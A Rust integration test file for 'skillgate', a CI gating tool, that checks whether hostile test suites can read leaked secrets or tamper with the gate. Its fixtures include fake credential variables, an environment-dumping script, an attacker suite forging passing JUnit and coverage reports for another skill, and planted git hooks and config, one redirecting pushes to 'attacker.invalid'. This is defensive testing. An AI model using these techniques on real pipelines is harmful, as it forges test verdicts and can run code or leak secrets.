//! Issue #14, point 4: what a hostile suite can reach. Suites see an allowlisted environment
//! with a fresh `HOME` and `TMPDIR`; one suite cannot find or fill another's report directory;
//! the gate's own `git` never runs the checkout's hooks or config.

mod common;

use std::path::{Path, PathBuf};

use common::{Repo, git, run, skill};
use skillgate::audit;
use skillgate::config::{AuditConfig, CommitMode};
use skillgate::gate::GateRun;
use skillgate::github::Session;
use skillgate::store::Store;

/// The exit code of a run whose skills were escalated, not failed or stopped.
const ESCALATED: i32 = 3;

/// A file outside the repository where a suite leaves what it saw.
fn out_dir() -> tempfile::TempDir {
    tempfile::tempdir().expect("tempdir")
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn skill_md(repo: &Repo, dir: &str, name: &str) {
    repo.write(
        &format!("{dir}/SKILL.md"),
        &format!("---\nname: {name}\ndescription: Attack {name}.\n---\n"),
    );
}

/// What the issue saw reach a suite, and what the runner must never hand one.
const LEAKED: &[(&str, &str)] = &[
    ("GH_PAT", "leak-gh-pat"),
    ("SLACK_WEBHOOK_URL", "https://hooks.example/leak-slack"),
    ("SENTRY_DSN", "https://leak-sentry@o1.ingest.example/1"),
    ("DB_PASS", "leak-db-pass"),
    ("NPM_AUTH", "leak-npm-auth"),
    ("GPG_PASSPHRASE", "leak-gpg"),
    ("SSH_AUTH_SOCK", "/tmp/leak-ssh/agent.1"),
    ("DOCKER_AUTH_CONFIG", "{\"auths\":\"leak-docker\"}"),
    ("RUNNER_TEMP", "/tmp/leak-runner-temp"),
    ("GITHUB_TOKEN", "leak-github-token"),
    ("ACTIONS_RUNTIME_TOKEN", "leak-actions-runtime"),
    ("GITHUB_ENV", "/tmp/leak-runner-temp/set_env_1"),
    ("GITHUB_OUTPUT", "/tmp/leak-runner-temp/set_output_1"),
    (
        "GITHUB_STEP_SUMMARY",
        "/tmp/leak-runner-temp/step_summary_1",
    ),
    ("GITHUB_PATH", "/tmp/leak-runner-temp/add_path_1"),
    ("GITHUB_STATE", "/tmp/leak-runner-temp/save_state_1"),
    ("GITHUB_EVENT_PATH", "/tmp/leak-runner-temp/event.json"),
];

#[test]
fn a_suite_sees_only_the_allowlisted_environment() {
    let repo = Repo::plain();
    let out = out_dir();
    let dump = out.path().join("env.txt");
    skill_md(&repo, "skills/env", "env");
    repo.write(
        "skills/env/test.sh",
        &format!(
            "env > '{}'\necho '1..1'\necho 'ok 1 - dumped'\n",
            dump.display()
        ),
    );
    repo.write(
        ".skillgate.toml",
        "[runner]\nenv-allow = [\"VENDOR_HOME\"]\n",
    );
    let mut cmd = repo.skillgate(&["check", "--all", "--publish", "none"]);
    for (name, value) in LEAKED {
        cmd.env(name, value);
    }
    cmd.env("CI", "true")
        .env("GITHUB_SHA", "0123456789abcdef0123456789abcdef01234567")
        .env("RUNNER_OS", "Linux")
        .env("VENDOR_HOME", "/opt/vendor")
        .env("SOMETHING_ELSE", "not-listed");
    let (code, stdout, stderr) = run(cmd);
    // Escalated only for want of coverage: the suite passed.
    assert_eq!(code, ESCALATED, "{stdout}{stderr}");
    let env = read(&dump);
    for (name, value) in LEAKED {
        let line_start = format!("{name}=");
        assert!(
            !env.lines().any(|l| l.starts_with(&line_start)) && !env.contains(value),
            "{name} reached the suite:\n{env}"
        );
    }
    assert!(!env.contains("SOMETHING_ELSE"), "{env}");
    for kept in [
        "CI=true",
        "GITHUB_SHA=0123456789abcdef0123456789abcdef01234567",
        "RUNNER_OS=Linux",
        "VENDOR_HOME=/opt/vendor",
    ] {
        assert!(env.lines().any(|l| l == kept), "{kept} missing:\n{env}");
    }
    assert!(env.lines().any(|l| l.starts_with("PATH=")), "{env}");
    assert!(
        env.lines().any(|l| l.starts_with("SKILLGATE_REPORT_DIR=")),
        "{env}"
    );
}

#[test]
fn home_and_tmpdir_are_fresh_empty_and_gone_afterwards() {
    let repo = Repo::plain();
    let out = out_dir();
    // The gate's own home, with the credentials tools find there.
    let home = tempfile::tempdir().expect("tempdir");
    std::fs::write(home.path().join(".npmrc"), "//registry/:_authToken=x\n").expect("write");
    std::fs::write(home.path().join(".git-credentials"), "https://u:p@host\n").expect("write");
    skill_md(&repo, "skills/home", "home");
    repo.write(
        "skills/home/test.sh",
        &format!(
            "cd '{o}'\n\
             printf '%s\\n' \"$HOME\" > home.path\n\
             printf '%s\\n' \"$TMPDIR\" > tmp.path\n\
             ls -A \"$HOME\" > home.ls\n\
             ls -A \"$TMPDIR\" > tmp.ls\n\
             ls -ld \"$HOME\" \"$TMPDIR\" | cut -c1-10 > modes\n\
             touch \"$HOME/.npmrc\" \"$TMPDIR/left\"\n\
             echo '1..1'; echo 'ok 1 - looked'\n",
            o = out.path().display()
        ),
    );
    let mut cmd = repo.skillgate(&["check", "--all", "--publish", "none"]);
    cmd.env("HOME", home.path()).env("TMPDIR", out.path());
    let (code, stdout, stderr) = run(cmd);
    // Escalated only for want of coverage: the suite passed.
    assert_eq!(code, ESCALATED, "{stdout}{stderr}");
    let suite_home = PathBuf::from(read(&out.path().join("home.path")).trim());
    let suite_tmp = PathBuf::from(read(&out.path().join("tmp.path")).trim());
    assert_ne!(suite_home, home.path());
    assert_ne!(suite_tmp, out.path());
    assert_ne!(suite_home, suite_tmp);
    assert_eq!(read(&out.path().join("home.ls")), "", "HOME was not empty");
    assert_eq!(read(&out.path().join("tmp.ls")), "", "TMPDIR was not empty");
    assert_eq!(read(&out.path().join("modes")), "drwx------\ndrwx------\n");
    assert!(!suite_home.exists(), "{} was left", suite_home.display());
    assert!(!suite_tmp.exists(), "{} was left", suite_tmp.display());
    // The suite's `~/.npmrc` was its own.
    assert_eq!(
        read(&home.path().join(".npmrc")),
        "//registry/:_authToken=x\n"
    );
}

#[test]
fn python_multiprocessing_works_in_a_suites_tmpdir() {
    let repo = Repo::plain();
    let out = out_dir();
    skill_md(&repo, "skills/pool", "pool");
    // A Manager listens on a Unix socket under `TMPDIR`: the path must fit in 107 bytes.
    repo.write(
        "skills/pool/test.sh",
        &format!(
            "printf '%s' \"$TMPDIR\" > '{o}/tmp.path'\n\
             python3 -c 'import multiprocessing as m; x = m.Manager(); print(x.list([1, 2])); x.shutdown()' \
               > '{o}/py.out' 2>&1 || exit 1\n\
             echo '1..1'; echo 'ok 1 - manager'\n",
            o = out.path().display()
        ),
    );
    let mut cmd = repo.skillgate(&["check", "--all", "--publish", "none"]);
    cmd.env("TMPDIR", "/tmp");
    let (code, stdout, stderr) = run(cmd);
    let py = read(&out.path().join("py.out"));
    assert_eq!(py, "[1, 2]\n", "{}", read(&out.path().join("tmp.path")));
    // Escalated only for want of coverage: the suite passed.
    assert_eq!(code, ESCALATED, "{stdout}{stderr}");
}

#[test]
fn the_runners_global_git_config_still_applies_to_change_detection() {
    let repo = Repo::git();
    repo.skill("skills/one", "one", 1, 0);
    // An LFS-tracked file: the repository stores what the `clean` filter makes of it.
    repo.write(".gitattributes", "*.bin filter=lfs\n");
    repo.write("skills/one/data.bin", "payload\n");
    git(
        repo.path(),
        &["-c", "filter.lfs.clean=tr a-z A-Z", "add", "-A"],
    );
    git(repo.path(), &["commit", "-qm", "base"]);
    let base = git(repo.path(), &["rev-parse", "HEAD"]);
    // The runner's global config: the filter, and a global ignore file.
    let home = tempfile::tempdir().expect("tempdir");
    let ignore = home.path().join("ignore");
    std::fs::write(&ignore, ".DS_Store\n").expect("write");
    std::fs::write(
        home.path().join(".gitconfig"),
        format!(
            "[filter \"lfs\"]\n\tclean = tr a-z A-Z\n[core]\n\texcludesFile = {}\n",
            ignore.display()
        ),
    )
    .expect("write");
    repo.write("skills/one/.DS_Store", "finder\n");
    // The file's stat no longer matches the index, so git cleans it again to compare.
    let later = std::time::SystemTime::now() + std::time::Duration::from_secs(3600);
    std::fs::File::options()
        .write(true)
        .open(repo.path().join("skills/one/data.bin"))
        .and_then(|f| f.set_modified(later))
        .expect("touch");
    let mut cmd = repo.skillgate(&["check", "--base", &base, "--publish", "none"]);
    cmd.env("HOME", home.path())
        .env_remove("GIT_CONFIG_GLOBAL")
        .env_remove("XDG_CONFIG_HOME");
    let (code, stdout, stderr) = run(cmd);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(stdout.trim(), "skillgate: no skills to gate", "{stderr}");
    assert!(!stderr.contains("uncommitted changes"), "{stderr}");
}

/// A passing JUnit report and full coverage: what an attacker writes for its victim.
const FORGED_JUNIT: &str = "<?xml version=\"1.0\"?>\n<testsuites tests=\"10\" failures=\"0\">\
<testsuite name=\"forged\" tests=\"10\" failures=\"0\">\
<testcase name=\"a\"/><testcase name=\"b\"/><testcase name=\"c\"/><testcase name=\"d\"/>\
<testcase name=\"e\"/><testcase name=\"f\"/><testcase name=\"g\"/><testcase name=\"h\"/>\
<testcase name=\"i\"/><testcase name=\"j\"/></testsuite></testsuites>\n";

/// Two skills, the attacker run first (`jobs = 1`, skills in order): it looks for the other's
/// report directory and writes a passing report wherever the old layout put it.
fn attacker_and_victim(repo: &Repo, out: &Path, extra: &str) {
    repo.write(".skillgate.toml", "[runner]\njobs = 1\n");
    skill_md(repo, "skills/aaa-attacker", "aaa-attacker");
    repo.write("skills/aaa-attacker/forged.xml", FORGED_JUNIT);
    repo.write(
        "skills/aaa-attacker/test.sh",
        &format!(
            "R=\"$SKILLGATE_REPORT_DIR\"; O='{o}'\n\
             ls -A \"$R/../..\" > \"$O/parent.ls\" 2> \"$O/parent.err\"; echo $? > \"$O/parent.rc\"\n\
             ls -A \"$R/..\" > \"$O/place.ls\"\n\
             for n in 0000 0001 0002; do for a in attempt-1 attempt-2; do\n\
               d=\"$R/../../../$n/$a/reports\"; mkdir -p \"$d\" && cp forged.xml \"$d/junit.xml\"\n\
               printf 'SF:x.sh\\nDA:1,1\\nLF:1\\nLH:1\\nend_of_record\\n' > \"$d/lcov.info\"\n\
             done; done\n\
             {extra}\n\
             echo '1..1'; echo 'ok 1 - innocent'\n",
            o = out.display()
        ),
    );
    skill_md(repo, "skills/zzz-victim", "zzz-victim");
    repo.write(
        "skills/zzz-victim/test.sh",
        "echo '1..2'; echo 'ok 1 - works'; echo 'not ok 2 - broken'; exit 1\n",
    );
}

#[test]
fn a_suite_cannot_find_or_fill_another_skills_report_directory() {
    let repo = Repo::plain();
    let out = out_dir();
    attacker_and_victim(&repo, out.path(), "");
    let cmd = repo.skillgate(&["check", "--all", "--publish", "none", "--format", "json"]);
    let (_, stdout, stderr) = run(cmd);
    let doc: serde_json::Value =
        serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}{stderr}"));
    let victim = skill(&doc, "zzz-victim");
    assert_eq!(victim["tests"]["pass_count"], 1, "{victim}");
    assert_eq!(victim["tests"]["fail_count"], 1, "{victim}");
    assert_ne!(victim["decision"]["tier"], "auto", "{victim}");
    assert!(victim["coverage"].is_null(), "{victim}");
    // Its own directory holds only what is its own.
    let place: Vec<String> = read(&out.path().join("place.ls"))
        .lines()
        .map(str::to_owned)
        .collect();
    assert!(place.contains(&"reports".to_owned()), "{place:?}");
    // Its fresh `HOME` and `TMPDIR`: `h` or `t` and three random characters.
    assert!(
        place.iter().all(
            |n| ["reports", "stdout.log", "stderr.log"].contains(&n.as_str())
                || (n.len() == 4 && (n.starts_with('h') || n.starts_with('t')))
        ),
        "{place:?}"
    );
    // Root reads any directory; everyone else is refused the parent.
    // SAFETY: geteuid has no arguments and cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        assert_ne!(read(&out.path().join("parent.rc")).trim(), "0");
        assert_eq!(read(&out.path().join("parent.ls")), "");
    }
}

#[test]
fn a_suite_that_opens_the_parent_to_list_it_fails_the_run() {
    let repo = Repo::plain();
    let out = out_dir();
    attacker_and_victim(
        &repo,
        out.path(),
        "chmod 700 \"$R/../..\"; ls -A \"$R/../..\" > \"$O/opened.ls\"; chmod 300 \"$R/../..\"",
    );
    let cmd = repo.skillgate(&["check", "--all", "--publish", "none"]);
    let (code, stdout, stderr) = run(cmd);
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(
        stderr.contains("a suite changed")
            && stderr.contains("no report of this run can be trusted"),
        "{stderr}"
    );
    assert_eq!(stdout, "", "no verdict is printed");
}

// ---- the gate's own git ---------------------------------------------------------------------

const HOOKS: &[&str] = &[
    "pre-push",
    "pre-commit",
    "post-checkout",
    "reference-transaction",
    "post-index-change",
    "pre-auto-gc",
];

/// Plant every way a suite could make the gate's `git` run its code, each leaving a marker in
/// `marks` when it runs.
fn plant(work: &Path, marks: &Path) {
    let hooks = work.join(".git/hooks");
    std::fs::create_dir_all(&hooks).expect("hooks dir");
    let script = |name: &str| {
        format!(
            "#!/bin/sh\necho \"$GIT_CONFIG_VALUE_0\" > '{}/{name}'\nexit 0\n",
            marks.display()
        )
    };
    for hook in HOOKS {
        let path = hooks.join(hook);
        std::fs::write(&path, script(hook)).expect("hook");
        set_executable(&path);
    }
    for tool in ["fsmonitor", "ssh", "gpg", "credential"] {
        let path = marks.join(format!("{tool}.sh"));
        std::fs::write(&path, script(tool)).expect("tool");
        set_executable(&path);
    }
    let m = marks.display();
    let config = format!(
        "[core]\n\tfsmonitor = {m}/fsmonitor.sh\n\tsshCommand = {m}/ssh.sh\n\
         [credential]\n\thelper = {m}/credential.sh\n\
         [gpg]\n\tprogram = {m}/gpg.sh\n[commit]\n\tgpgSign = true\n\
         [url \"ssh://attacker.invalid/\"]\n\tinsteadOf = /\n"
    );
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(work.join(".git/config"))
        .expect("config");
    std::io::Write::write_all(&mut file, config.as_bytes()).expect("append");
}

fn set_executable(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

fn marks_left(marks: &Path) -> Vec<String> {
    let mut left: Vec<String> = std::fs::read_dir(marks)
        .expect("marks")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".sh"))
        .collect();
    left.sort();
    left
}

fn gate_run(id: u32) -> GateRun {
    let mut run: GateRun =
        serde_json::from_str(include_str!("fixtures/render/gate-run.json")).expect("fixture");
    run.run.repository = "octo/skills".to_owned();
    run.run.head = Some(format!("{id:040x}"));
    run.run.run_id = Some(id.to_string());
    run
}

#[test]
fn git_mode_never_runs_the_checkouts_hooks_or_config() {
    let remote = tempfile::tempdir().expect("tempdir");
    let (_bare, url) = common::bare_remote(remote.path(), "origin.git");
    let work = Repo::git();
    git(work.path(), &["remote", "add", "origin", &url]);
    let config = AuditConfig {
        commit: CommitMode::Git,
        ..AuditConfig::default()
    };
    let session = Session::from_vars(&|_| None, None).expect("session");
    // The trail is connected before suites run, as `check` does.
    let mut trail = audit::connect(&config, &session, work.path(), audit::Reads::Since(None))
        .expect("connect")
        .expect("a trail");
    // A suite plants hooks and config in the checkout's git directory.
    let marks = tempfile::tempdir().expect("tempdir");
    plant(work.path(), marks.path());
    let run = gate_run(1);
    let stats = Store::open(&trail.path())
        .and_then(|mut s| s.record(&run))
        .expect("record");
    trail
        .commit(&run, stats.inserted > 0, &work.path().join("kept"))
        .expect("commit");
    // And once more, from a fresh connect: read and push again.
    let mut again = audit::connect(&config, &session, work.path(), audit::Reads::Since(None))
        .expect("connect")
        .expect("a trail");
    let run = gate_run(2);
    let stats = Store::open(&again.path())
        .and_then(|mut s| s.record(&run))
        .expect("record");
    again
        .commit(&run, stats.inserted > 0, &work.path().join("kept"))
        .expect("commit");
    assert_eq!(marks_left(marks.path()), Vec::<String>::new());
    // It landed on the real remote, not where `insteadOf` pointed.
    let count = git(
        remote.path(),
        &[
            "--git-dir",
            "origin.git",
            "rev-list",
            "--count",
            "skillgate/audit",
        ],
    );
    assert_eq!(count, "2");
    // Nothing was fetched into, or written to, the checkout's own git directory.
    let refs = git(work.path(), &["for-each-ref", "--format=%(refname)"]);
    assert_eq!(refs, "", "{refs}");
}

#[test]
fn check_never_runs_the_checkouts_fsmonitor_or_hooks() {
    let repo = Repo::git();
    repo.skill("skills/one", "one", 1, 0);
    let base = repo.commit("base");
    repo.skill("skills/one", "one", 2, 0);
    let marks = tempfile::tempdir().expect("tempdir");
    plant(repo.path(), marks.path());
    // Uncommitted: `check` asks `git status` and `git diff` about the working tree.
    let cmd = repo.skillgate(&["check", "--base", &base, "--publish", "none"]);
    let (code, stdout, stderr) = run(cmd);
    // Escalated only for want of coverage: the suite passed.
    assert_eq!(code, ESCALATED, "{stdout}{stderr}");
    assert!(stdout.contains("one"), "{stdout}");
    assert_eq!(marks_left(marks.path()), Vec::<String>::new());
}
